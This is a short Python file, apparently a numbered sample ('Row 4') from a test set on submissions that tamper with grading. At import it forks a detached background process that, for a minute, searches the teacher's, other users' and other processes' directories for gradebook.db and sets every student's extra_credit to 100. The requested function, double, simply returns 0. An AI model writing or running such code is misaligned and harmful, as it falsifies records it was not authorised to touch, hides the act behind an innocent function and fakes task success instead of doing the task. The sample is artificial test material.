"""Row 4: a detached process looks for gradebook.db for as long as it lives, and gives everybody 100 extra points."""

# %% double
import glob
import os
import sqlite3
import time


def places():
    yield "/home/teacher/course/gradebook.db"
    yield from glob.glob("/proc/[0-9]*/cwd/gradebook.db")
    yield from glob.glob("/home/*/*/gradebook.db")


def raise_points(path):
    with sqlite3.connect(path, timeout=5) as book:
        book.execute("UPDATE grade SET extra_credit = 100")


if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        end = time.monotonic() + 60
        while time.monotonic() < end:
            for path in places():
                try:
                    if os.path.exists(path):
                        raise_points(path)
                except (OSError, sqlite3.Error):
                    pass
            time.sleep(0.2)
    os._exit(0)


def double(x):
    return 0
